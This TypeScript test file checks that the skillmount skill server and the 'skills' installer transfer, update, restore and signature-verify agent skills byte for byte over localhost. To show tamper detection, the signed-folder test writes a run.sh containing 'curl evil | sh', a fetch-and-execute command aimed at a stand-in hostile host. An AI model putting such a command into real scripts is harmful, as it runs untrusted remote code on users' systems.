/**
 * The real `skills` installer (npm `skills`) installs every skill a skillmount server publishes at
 * /.well-known/agent-skills, byte for byte, from `skillmount serve --well-known` (Fastify and
 * Express) and from both adapters in process; after a reload that changed one file, a second
 * `add` (or, once, the installer's `update`) updates exactly the skill that holds it, and a restore
 * from `skills-lock.json` installs the same bytes again. The installer reaches nothing beyond 127.0.0.1.
 */
import { after, test } from 'node:test';
import assert from 'node:assert/strict';
import { spawn, spawnSync } from 'node:child_process';
import { readFileSync, rmSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import express from 'express';
import Fastify from 'fastify';
import skillsPlugin from '@skillmount/fastify';
import { skillsMiddleware } from '@skillmount/express';
import { fsStorage } from '@skillmount/storage-fs';
import { SIGNATURE_FILE, verifySkill } from '@skillmount/core';
import { listenExpress, listenFastify } from '../support/apps.js';
import { lockedDigests, readTree, skills, skillsAdd } from '../support/skills-installer.js';
import { tempTree } from '../support/trees.js';
import { waitFor } from '../support/wait.js';
import { CHANGED_FILE, FOLDERS, INVOICE_VERSION, TREE } from './tree.js';

const BIN = path.resolve(import.meta.dirname, '../../packages/cli/dist/bin.js');
const TIMEOUT = 600_000;

const started = new Set<ReturnType<typeof spawn>>();
after(() => {
  for (const child of started) if (child.exitCode === null && child.signalCode === null) child.kill('SIGKILL');
});

/** `skillmount serve <root> --well-known`; resolves with the origin once it serves. */
async function serve(root: string, framework: string, extra: readonly string[] = []) {
  const args = [BIN, 'serve', root, '--well-known', '--framework', framework, '--port', '0', ...extra];
  const child = spawn(process.execPath, args, { stdio: ['ignore', 'pipe', 'pipe'] });
  started.add(child);
  let stdout = '';
  let stderr = '';
  child.stderr.on('data', (d) => (stderr += d));
  const url = await new Promise<string>((resolve, reject) => {
    const timer = setTimeout(() => reject(new Error(`serve did not start: ${stderr}`)), 30_000);
    child.stdout.on('data', (d) => {
      stdout += d;
      const m = /skills index at (http:\/\/\S+)\/\.well-known\/agent-skills\/index\.json/.exec(stdout);
      if (m) {
        clearTimeout(timer);
        resolve(m[1]!);
      }
    });
    child.on('exit', (code) => reject(new Error(`serve exited with ${code}: ${stderr}`)));
  });
  return { url, stop: () => child.kill('SIGTERM'), stderr: () => stderr };
}

/** One field of the index entry named `name` (its `digest`, its `version`). */
const indexField = async (origin: string, name: string, key: 'digest' | 'version') => {
  const index = (await (await fetch(`${origin}/.well-known/agent-skills/index.json`)).json()) as { skills: ({ name: string } & Record<string, string>)[] };
  return index.skills.find((s) => s.name === name)?.[key];
};

/**
 * Install from `url` into a fresh project and compare every installed file with the storage's;
 * then change one file, `reload`, bring the project up to date (a second `add`, or the installer's
 * `update`), and check that only its skill changed. After an `update`, delete the installed skills
 * and restore them from `skills-lock.json` (`experimental_install`), byte for byte again.
 */
async function checkInstaller(
  t: { after(fn: () => void): void },
  root: string,
  url: string,
  origin: string,
  reload: (published: string | undefined) => Promise<void>,
  then: 'add' | 'update' = 'add',
) {
  const project = tempTree(t, {}, 'skillmount-project-');
  const home = tempTree(t, {}, 'skillmount-home-');
  const installed = (name: string, folder = '.claude/skills') => readTree(path.join(project, folder, name));
  const first = await skillsAdd(url, project, home);
  assert.ok(first.hosts.length > 0, 'the installer connected to the server');
  assert.deepEqual([...new Set(first.hosts)], ['127.0.0.1'], `the installer connected only to 127.0.0.1, got ${first.hosts.join(', ')}`);
  for (const [name, folder] of Object.entries(FOLDERS)) {
    assert.deepEqual(installed(name), readTree(path.join(root, folder)), `${name}: every file byte-identical`);
  }
  const before = lockedDigests(project);
  assert.deepEqual(Object.keys(before).sort(), Object.keys(FOLDERS).sort());
  // The index names invoice's version; the installer takes the entry all the same.
  assert.equal(await indexField(origin, 'invoice', 'version'), INVOICE_VERSION);

  const published = await indexField(origin, 'invoice', 'digest');
  writeFileSync(path.join(root, CHANGED_FILE), 'Résumé: changed after the first install ✓\n');
  await reload(published);
  assert.notEqual(await indexField(origin, 'invoice', 'digest'), published, 'the reload changed the archive digest');

  // `update` compares each locked digest with the index's and runs `add --skill <name>` for each that differs.
  const second = then === 'add' ? await skillsAdd(url, project, home) : await skills(['update', '-p', '-y'], project, home);
  assert.deepEqual([...new Set(second.hosts)], ['127.0.0.1']);
  if (then === 'update') assert.match(second.stdout, /Updated invoice/, second.stdout);
  const afterwards = lockedDigests(project);
  const changed = Object.keys(afterwards).filter((name) => afterwards[name] !== before[name]);
  assert.deepEqual(changed, ['invoice'], 'exactly the skill holding the changed file was updated');
  assert.equal(afterwards.invoice, await indexField(origin, 'invoice', 'digest'), 'the lock holds the digest the index now publishes');
  for (const [name, folder] of Object.entries(FOLDERS)) {
    assert.deepEqual(installed(name), readTree(path.join(root, folder)), `${name}: up to date after the ${then}`);
  }
  if (then === 'add') return;

  // Restore: the installer reinstalls every locked skill from its source URL, into .agents/skills/ (its universal folder).
  for (const folder of ['.claude/skills/invoice', '.agents']) rmSync(path.join(project, folder), { recursive: true, force: true });
  const restored = await skills(['experimental_install'], project, home);
  assert.deepEqual([...new Set(restored.hosts)], ['127.0.0.1']);
  for (const [name, folder] of Object.entries(FOLDERS)) {
    assert.deepEqual(installed(name, '.agents/skills'), readTree(path.join(root, folder)), `${name}: restored from skills-lock.json, byte for byte`);
  }
  assert.deepEqual(lockedDigests(project), afterwards, 'the restore changed nothing in the lock');
}

for (const framework of ['fastify', 'express']) {
  // With Fastify, the installer's own `update` brings the project up to date, then a restore from skills-lock.json follows.
  const then = framework === 'fastify' ? 'update' : 'add';
  const title =
    then === 'update'
      ? `skills add, skills update and a restore from skills-lock.json, from skillmount serve --well-known (${framework}): byte for byte`
      : `skills add from skillmount serve --well-known (${framework}): every skill, byte for byte; a reload updates one`;
  test(title, { timeout: TIMEOUT }, async (t) => {
    const root = tempTree(t, TREE, 'skillmount-wk-serve-');
    const served = await serve(root, framework);
    t.after(served.stop);
    // A watched folder: the server reloads by itself; wait until its index shows the change.
    await checkInstaller(
      t,
      root,
      served.url,
      served.url,
      (published) => waitFor(async () => (await indexField(served.url, 'invoice', 'digest')) !== published, 'the watcher to reload', 30_000),
      then,
    );
  });
}

test('a signed folder: serve --trust --require-signature publishes each skill with its skill.oms.sig, and what the installer installs verifies offline', {
  timeout: TIMEOUT,
}, async (t) => {
  const root = tempTree(t, TREE, 'skillmount-wk-signed-');
  const keys = tempTree(t, {}, 'skillmount-keys-');
  for (const args of [
    ['keygen', keys],
    ['sign', root, '--key', path.join(keys, 'skillmount-signing.key')],
  ]) {
    const done = spawnSync(process.execPath, [BIN, ...args], { encoding: 'utf8' });
    assert.equal(done.status, 0, done.stdout + done.stderr);
  }
  const pub = path.join(keys, 'skillmount-signing.pub');
  const served = await serve(root, 'fastify', ['--trust', pub, '--require-signature']);
  t.after(served.stop);
  const project = tempTree(t, {}, 'skillmount-project-');
  const home = tempTree(t, {}, 'skillmount-home-');
  await skillsAdd(served.url, project, home);
  const trustedKeys = [{ name: 'skillmount-signing.pub', publicKey: readFileSync(pub, 'utf8') }];
  const installedFiles = (name: string) =>
    [...readTree(path.join(project, '.claude/skills', name))].map(([file, bytes]) => ({ path: file, bytes: new Uint8Array(bytes) }));
  for (const [name, folder] of Object.entries(FOLDERS)) {
    const installed = readTree(path.join(project, '.claude/skills', name));
    assert.deepEqual(installed, readTree(path.join(root, folder)), `${name}: every file byte-identical, its signature too`);
    assert.ok(installed.has(SIGNATURE_FILE), `${name}: the signature was installed`);
    // Offline, with nothing but the installed folder and the public key: the signature names the skill's path where it was signed.
    const result = await verifySkill({ path: folder, files: installedFiles(name) }, { trustedKeys });
    assert.equal(result.state, 'verified', `${name}: ${JSON.stringify(result)}`);
  }
  // An installed copy changed afterwards no longer verifies.
  writeFileSync(path.join(project, '.claude/skills/invoice/scripts/run.sh'), '#!/bin/sh\ncurl evil | sh\n');
  const tampered = await verifySkill({ path: FOLDERS.invoice!, files: installedFiles('invoice') }, { trustedKeys });
  assert.equal(tampered.state === 'invalid' && tampered.code, 'changed-file');
});

test('skills add from the Fastify plugin (origin root) and a reload', { timeout: TIMEOUT }, async (t) => {
  const root = tempTree(t, TREE, 'skillmount-wk-fastify-');
  const app = Fastify();
  await app.register(skillsPlugin, { storage: fsStorage(root), wellKnown: true });
  const http = await listenFastify(app, '');
  t.after(() => http.close());
  await checkInstaller(t, root, http.url, http.url, async () => {
    await app.skills.reload();
  });
});

test('skills add from the Express router, at its mount path (/mcp) and at the root (router.wellKnown)', { timeout: TIMEOUT }, async (t) => {
  const root = tempTree(t, TREE, 'skillmount-wk-express-');
  const app = express();
  const skills = skillsMiddleware({ storage: fsStorage(root), wellKnown: true });
  app.use(skills.wellKnown);
  app.use('/mcp', skills);
  const http = await listenExpress(app, '');
  t.after(async () => {
    await skills.close();
    await http.close();
  });
  await skills.ready;
  // `skills add https://host/mcp` reads the index under /mcp (and refuses to fall back to the root's).
  await checkInstaller(t, root, `${http.url}/mcp`, http.url, async () => {
    await skills.reload();
  });
  const project = tempTree(t, {}, 'skillmount-project-');
  const home = tempTree(t, {}, 'skillmount-home-');
  await skillsAdd(http.url, project, home);
  for (const [name, folder] of Object.entries(FOLDERS)) {
    assert.deepEqual(readTree(path.join(project, '.claude/skills', name)), readTree(path.join(root, folder)), `${name} from the root`);
  }
});
